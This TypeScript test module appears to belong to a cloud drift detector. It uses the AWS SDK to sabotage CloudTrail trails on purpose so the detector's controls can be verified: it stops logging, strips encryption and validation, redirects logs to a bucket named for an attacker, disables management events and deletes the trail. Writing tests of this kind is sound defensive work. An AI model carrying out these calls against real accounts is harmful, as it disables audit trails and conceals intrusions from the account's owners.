/** Breaks of the trail. Whoever begins with one of these wants not to be seen. */
import {
  type AdvancedEventSelector,
  CloudTrailClient,
  DeleteTrailCommand,
  PutEventSelectorsCommand,
  StopLoggingCommand,
  UpdateTrailCommand,
  type UpdateTrailCommandInput,
} from '@aws-sdk/client-cloudtrail';
import { cloudtrailTrailLive } from '../../../lambdas/drift/live/cloudtrail-trail';
import type { Break, Broken } from '../break';
import type { Scene } from '../scene';

type BreakIt = (client: CloudTrailClient, Name: string) => Promise<unknown>;

const update =
  (change: Omit<UpdateTrailCommandInput, 'Name'>): BreakIt =>
  (client, Name) =>
    client.send(new UpdateTrailCommand({ Name, ...change }));

const managementOnly: AdvancedEventSelector = {
  Name: 'Management',
  FieldSelectors: [{ Field: 'eventCategory', Equals: ['Management'] }],
};

const breaks: Readonly<Record<string, BreakIt>> = {
  'cloudtrail.trail.logging': (client, Name) => client.send(new StopLoggingCommand({ Name })),
  'cloudtrail.trail.everywhere': update({ IsMultiRegionTrail: false, IncludeGlobalServiceEvents: false }),
  'cloudtrail.trail.validation': update({ EnableLogFileValidation: false }),
  'cloudtrail.trail.encryption': update({ KmsKeyId: '' }),
  'cloudtrail.trail.log-group': update({ CloudWatchLogsLogGroupArn: '', CloudWatchLogsRoleArn: '' }),
  'cloudtrail.trail.archive': update({ S3BucketName: 'mallory-has-the-logs' }),
  // As Stratus Red Team does it: the trail goes on, and records nothing.
  'cloudtrail.trail.management-events': (client, TrailName) =>
    client.send(
      new PutEventSelectorsCommand({
        TrailName,
        EventSelectors: [{ ReadWriteType: 'ReadOnly', IncludeManagementEvents: false, DataResources: [] }],
      }),
    ),
  'cloudtrail.trail.data-events': (client, TrailName) =>
    client.send(new PutEventSelectorsCommand({ TrailName, AdvancedEventSelectors: [managementOnly] })),
};

async function breakTrail(scene: Scene, breakIt: BreakIt): Promise<Broken> {
  const { declared, row } = scene.one(cloudtrailTrailLive.kind);
  await breakIt(scene.open(CloudTrailClient, 'cloudtrail'), row.physicalId);
  return { declared, physicalId: row.physicalId };
}

export const cloudtrailBreaks: readonly Break[] = [
  ...Object.entries(breaks).map(([control, breakIt]) => ({
    control,
    kind: cloudtrailTrailLive,
    run: (scene: Scene) => breakTrail(scene, breakIt),
  })),
  {
    control: 'cloudtrail.trail.logging',
    name: 'deleted',
    kind: cloudtrailTrailLive,
    // After this no event comes, and perhaps not even this one.
    noticedBy: 'sweep',
    run: (scene) => breakTrail(scene, (client, Name) => client.send(new DeleteTrailCommand({ Name }))),
  },
];
